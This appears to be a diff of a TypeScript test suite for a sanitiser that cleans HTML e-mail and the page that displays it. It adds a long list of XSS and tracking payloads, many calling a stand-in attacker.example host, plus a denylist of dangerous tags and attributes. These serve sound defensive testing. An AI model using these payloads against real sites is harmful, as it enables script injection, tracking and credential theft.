@@ -2,14 +2,14 @@ import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { HOSTILE_PROMO } from '../catalogue/demo/fixtures.ts'
 import { cleanHtml } from './cleanHtml.ts'
-import { promoPage, remoteImages } from './promoPage.ts'
+import { promoPage } from './promoPage.ts'
 
 const clean = (html: string, withImages = false) => cleanHtml(html, withImages).html
 
 describe('an e-mail', () => {
   it('keeps its tables, its words and its inline styles', () => {
     const mail =
-      '<table width="100%" cellpadding="0"><tr><td style="background:#123456;padding:4px 8px"><b>Out &amp; about</b><br>“now”</td></tr></table>'
+      '<table width="100%" cellpadding="0"><tr><td style="background:#123456;padding:4px 8px"><b>Out &amp; about</b><br />“now”</td></tr></table>'
     expect(clean(mail)).toBe(mail)
   })
   it('opens its links in a new tab without a way back', () => {
@@ -19,79 +19,143 @@ describe('an e-mail', () => {
     expect(clean('<a href="mailto:promo@label.example">Write</a>')).toContain('href="mailto:promo@label.example"')
   })
   it('closes what it left open and drops what it closed twice', () => {
-    expect(clean('<p><b>one</p></i>two')).toBe('<p><b>one</b></p>two')
+    expect(clean('<div><b>one</div></i>two')).toBe('<div><b>one</b></div>two')
   })
   it('shows pictures only when they were asked for, and their words otherwise', () => {
     const mail = '<p><img src="https://label.example/a.png" alt="The band" width="300"></p>'
-    expect(clean(mail)).toBe('<p>The band</p>')
+    expect(clean(mail)).toBe('<p><span>The band</span></p>')
     expect(clean(mail, true)).toContain('<img alt="The band" width="300" src="https://label.example/a.png"')
-    expect([remoteImages(mail), remoteImages('<p>none</p>')]).toEqual([1, 0])
+    expect([
+      cleanHtml(mail, false).images,
+      cleanHtml(mail, true).images,
+      cleanHtml('<p>none</p>', true).images,
+    ]).toEqual([1, 1, 0])
+    expect(clean('<img src="https://label.example/a.png" alt="<b>x</b>">')).toBe('<span>&lt;b&gt;x&lt;/b&gt;</span>')
   })
 })
 
+/** Ways in which a mail calls somebody, runs something, restyles or leads away; what they may leave is their text. */
+const VECTORS: readonly [name: string, html: string][] = [
+  ['a script', '<script>alert(1)</script><script src="//attacker.example/s.js"></script>x'],
+  ['a script that never ends', 'x<script>alert(1)'],
+  ['an end tag with a space', '<script>alert(1)</script \n>x'],
+  ['an event handler', '<p onclick=alert(1) oNmouseover="x">x</p>'],
+  ['a handler behind a slash', '<b/onclick=alert(1)>x</b>'],
+  ['a javascript link', '<a href="javascript:alert(1)">x</a>'],
+  ['one with a tab in it', '<a href="java\tscript:alert(1)">x</a>'],
+  ['one spelt in references', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
+  ['a data link', '<a href="data:text/html,<script>1</script>">x</a>'],
+  ['a link with a password', '<a href="https://u:p@label.example/">x</a>'],
+  ['a relative link', '<a href="/account">x</a>'],
+  ['a link without a protocol', '<a href="//attacker.example/">x</a>'],
+  ['a link that is watched', '<a href="https://label.example/" ping="https://attacker.example/ping">x</a>'],
+  ['svg', '<svg onload=alert(1)><script>1</script><image href="https://attacker.example/i"/><use href="https://attacker.example/u#a"/></svg>x'],
+  ['math that hides an image', '<math><mtext><img src=x onerror=alert(1)></mtext></math>x'],
+  ['noscript that hides an attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x'],
+  ['a textarea that hides one', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>x'],
+  ['a template', '<template><img src="https://attacker.example/t"></template>x'],
+  ['a style sheet', '<style>@import url(//attacker.example);body{display:none}</style>x'],
+  ['a linked style sheet', '<link rel="stylesheet" href="https://attacker.example/style.css">x'],
+  ['a style that loads', '<p style="background:url(https://attacker.example/x);color:red">x</p>'],
+  ['a style that chooses', '<p style="background:image-set(\'https://attacker.example/x\' 1x)">x</p>'],
+  ['a style that escapes', '<p style="background:u\\72l(//attacker.example)">x</p>'],
+  ['a style in references', '<p style="background:&#117;rl(//attacker.example)">x</p>'],
+  ['a list with a picture', '<ul style="list-style:url(https://attacker.example/l)"><li>x</li></ul>'],
+  ['a cover over everything', '<div style="position:fixed;inset:0;z-index:9">x</div>'],
+  ['a background attribute', '<table background="https://attacker.example/b"><tr><td background="//attacker.example/c">x</td></tr></table>'],
+  ['a picture set', '<picture><source srcset="https://attacker.example/p"><img srcset="https://attacker.example/q 2x" alt=""></picture>x'],
+  ['a film', '<video src="https://attacker.example/v" poster="https://attacker.example/w" autoplay></video><audio src="https://attacker.example/a" autoplay></audio>x'],
+  ['a track', '<video><track src="https://attacker.example/t" default></video>x'],
+  ['frames', '<iframe src="https://attacker.example/f" srcdoc="<script>1</script>"></iframe><frameset><frame src="https://attacker.example/g"></frameset>x'],
+  ['objects', '<object data="https://attacker.example/o"></object><embed src="https://attacker.example/e"><applet code="https://attacker.example/p"></applet>x'],
+  ['a form', '<form action="https://attacker.example"><input name=password><input type=image src="https://attacker.example/i"><button formaction="https://attacker.example">x</button></form>'],
+  ['a refresh', '<meta http-equiv=refresh content="0;url=https://attacker.example">x'],
+  ['a base', '<base href="https://attacker.example/">x'],
+  ['a preconnect', '<link rel=preconnect href="https://attacker.example"><link rel=dns-prefetch href="//attacker.example">x'],
+  ['a comment that hides a tag', '<!-- --><b>x</b><!-- <img src=x onerror=1> -->'],
+  ['a comment that is none', '<!--><img src=x onerror=alert(1)>-->x'],
+  ['a tag in an attribute', '<b title="</b><script>alert(1)</script>">x</b>'],
+  ['a tag in references', '&lt;script&gt;alert(1)&lt;/script&gt;x'],
+  ['a broken tag', '<b <script>x</b>'],
+  ['a pixel by http', '<img src="http://attacker.example/p.png" alt="">x'],
+  ['a name of the page', '<p id="root" class="shell" name="location">x</p>'],
+] // biome-ignore format: one attack a line
+
+/** A tag as the cleaning writes it: a known element, and attributes in quotes with nothing in them that ends them. */
+const TAG = /<(?:\/[a-z][a-z0-9]*|[a-z][a-z0-9]*(?: [a-z]+="[^"<>]*")*(?: \/)?)>/g
+const ATTRIBUTES =
+  /^(abbr|align|alt|bgcolor|border|cellpadding|cellspacing|color|cols|colspan|datetime|dir|face|headers|height|href|hspace|lang|loading|nowrap|referrerpolicy|rel|rowspan|rows|scope|size|span|src|start|style|summary|target|title|type|valign|value|vspace|width)$/
+
+/** @throws when something of the result could run, load by itself, restyle or lead away */
+function harmless(result: string): void {
+  expect(result.replace(TAG, '')).not.toMatch(/[<>]/)
+  for (const [tag] of result.matchAll(TAG)) {
+    expect(tag).not.toMatch(
+      /^<\/?(?:script|style|svg|math|iframe|frame|object|embed|form|input|button|link|meta|base|video|audio|source|template|noscript|textarea|select)\b/,
+    )
+    for (const [, name = '', value = ''] of tag.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
+      expect(name).toMatch(ATTRIBUTES)
+      if (name === 'href') expect(value).toMatch(/^(https?|mailto|tel):/)
+      if (name === 'src') expect(value).toMatch(/^https:/)
+      if (name === 'style') expect(value).not.toMatch(/url|image|expression|import|@|\\|position|z-index/i)
+    }
+  }
+}
+
 describe('RELEASE-030: a hostile e-mail', () => {
-  it.each([
-    ['a script', '<script>alert(1)</script>x', 'x'],
-    ['a script that never ends', 'x<script>alert(1)', 'x'],
-    ['an end tag with a space', '<script>alert(1)</script \n>x', 'x'],
-    ['an event handler', '<p onclick=alert(1) oNmouseover="x">x</p>', '<p>x</p>'],
-    ['a handler behind a slash', '<b/onclick=alert(1)>x</b>', '<b>x</b>'],
-    ['a javascript link', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
-    ['one with a tab in it', '<a href="java\tscript:alert(1)">x</a>', '<a>x</a>'],
-    ['one spelt in references', '<a href="&#106;avascript&colon;alert(1)">x</a>', '<a>x</a>'],
-    ['a data link', '<a href="data:text/html,<script>1</script>">x</a>', '<a>x</a>'],
-    ['a link with a password', '<a href="https://u:p@label.example/">x</a>', '<a>x</a>'],
-    ['a relative link', '<a href="/account">x</a>', '<a>x</a>'],
-    ['svg', '<svg onload=alert(1)><script>1</script></svg>x', 'x'],
-    ['math that hides an image', '<math><mtext><img src=x onerror=alert(1)></mtext></math>x', 'x'],
-    ['noscript that hides an attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x', '"&gt;x'],
-    ['a style sheet', '<style>@import url(//a.example);body{display:none}</style>x', 'x'],
-    ['a style that loads', '<p style="background:url(https://a.example/x);color:red">x</p>', '<p style="color:red">x</p>'],
-    ['a style that escapes', '<p style="background:u\\72l(//a.example)">x</p>', '<p>x</p>'],
-    ['a style in references', '<p style="background:&#117;rl(//a.example)">x</p>', '<p>x</p>'],
-    ['a cover over everything', '<div style="position:fixed;inset:0;z-index:9">x</div>', '<div>x</div>'],
-    ['frames and objects', '<iframe srcdoc="<script>1</script>"></iframe><object data=x></object><embed src=x>x', 'x'],
-    ['a form', '<form action="https://a.example"><input name=password><button>Sign in</button></form>', 'Sign in'],
-    ['a refresh', '<meta http-equiv=refresh content="0;url=https://a.example">x', 'x'],
-    ['a base', '<base href="https://a.example/">x', 'x'],
-    ['a preconnect', '<link rel=preconnect href="https://a.example">x', 'x'],
-    ['a comment that hides a tag', '<!-- --><b>x</b><!-- <img src=x onerror=1> -->', '<b>x</b>'],
-    ['a tag in an attribute', '<b title="</b><script>alert(1)</script>">x</b>', '<b title="&lt;/b&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</b>'],
-    ['a tag in references', '&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;script&gt;alert(1)&lt;/script&gt;'],
-    ['a broken tag', '<b <script>x</b>', '<b>x</b>'],
-    ['a pixel by http', '<img src="http://a.example/p.png" alt="">x', 'x'],
-  ])('%s', (_name, html, expected) => {
-    expect(clean(html)).toBe(expected)
-    expect(clean(html, true)).toBe(expected)
-  }) // biome-ignore format: one attack a line
+  it.each(VECTORS)('%s leaves its words at most', (_name, html) => {
+    for (const withImages of [false, true]) {
+      const result = clean(html, withImages)
+      harmless(result)
+      expect(result).not.toMatch(/attacker|onerror|onload|alert\(1\)"/)
+      // What swallows the rest of a mail may take its words with it.
+      if (!/noscript|textarea|never ends|broken/.test(_name)) expect(result).toContain('x')
+    }
+  })
+
+  it('is the demo’s own, of 21 kinds', () => {
+    for (const withImages of [false, true]) {
+      harmless(clean(HOSTILE_PROMO, withImages))
+      expect(clean(HOSTILE_PROMO, withImages)).toContain('This text is harmless and may be read.')
+    }
+    expect(cleanHtml(HOSTILE_PROMO, true).images).toBe(1)
+  })
 
   it('comes out as nothing but elements and attributes of an e-mail, whatever it was', () => {
     const piece = fc.constantFrom(
       '<', '>', '"', "'", '`', '=', '/', '&', '<!--', '-->', '<b', '<a href=', '<script>', '</script>', '<img src=https://a.example/x onerror=', '<svg>',
-      '</svg>', 'style="', 'url(', '&lt;', '&#60;', '&#x3c;', '<textarea>', '</textarea ', 'javascript:', '\0', '<!', '<?', ' onload=x ', 'x', '\n',
+      '</svg>', 'style="', 'url(', '&lt;', '&#60;', '&#x3c;', '<textarea>', '</textarea ', 'javascript:', '\0', '<!', '<?', ' onload=x ', 'x', '\n', '<p ', 'color:red', '(', '}',
     ) // biome-ignore format: a table
-    const allowed = /<(?:\/?[a-z][a-z0-9]*|[a-z][a-z0-9]*(?: [a-z]+="[^"<>'`]*")*)>/g
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 40 }), fc.boolean(), (pieces, withImages) => {
         const result = clean(pieces.join(''), withImages)
-        expect(result.replace(allowed, '')).not.toMatch(/[<>]/)
-        for (const [tag] of result.matchAll(allowed)) {
-          expect(tag).not.toMatch(/^<(?:script|svg|textarea|style|iframe)/)
-          for (const [, name] of tag.matchAll(/ ([a-z]+)="/g)) expect(name).not.toMatch(/^on/)
-        }
+        harmless(result)
       }),
-      { numRuns: 2000 },
+      { numRuns: 1000 },
     )
   })
-  it('takes no longer the longer it tries', () => {
-    for (const attack of ['<head>', '<option>', '<b ', '<!--', '<script>', '&#', '<b><i>', '</b>', '<a b="'])
-      expect(clean(attack.repeat(100_000)).length).toBeLessThan(2_000_000)
-  }, 5_000)
+
+  it('takes no longer the longer it is: a megabyte of anything costs what a letter may', () => {
+    const attacks = ['<', '<head>', '<option>', '<b ', '<!--', '<script>', '&#', '<b><i>', '</b>', '<a b="', '<svg>', '<p>x', `<b style="${'('.repeat(1990)}">`, `<b style="${'color:red;'.repeat(190)}">`] // biome-ignore format: a list
+    const slowest = attacks.map((attack) => {
+      const mail = attack.repeat(Math.ceil(1_000_000 / attack.length))
+      const begun = process.cpuUsage().user
+      expect(clean(mail).length).toBeLessThan(3_000_000)
+      return { attack: attack.slice(0, 20), ms: (process.cpuUsage().user - begun) / 1000 }
+    })
+    // Some 400 ms at most on a slow machine; without bounds several take a minute.
+    expect(slowest.filter(({ ms }) => ms > 1500)).toEqual([])
+  })
+
+  it('is read to its end when it is as long as letters are', () => {
+    const rows = '<tr><td style="padding:4px"><b>One more song</b> of many</td></tr>'.repeat(2000)
+    expect(clean(`<table>${rows}</table><p>The end</p>`)).toContain('<p>The end</p>')
+  })
 })
 
 describe('the page it is shown in', () => {
   it('RELEASE-030: runs nothing and calls nobody, by a policy of its own', () => {
-    const { html, policy } = promoPage(HOSTILE_PROMO, 'en', false)
+    const { html, policy } = promoPage(clean(HOSTILE_PROMO), 'en', false)
     expect(policy).toBe(
       "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox",
     )
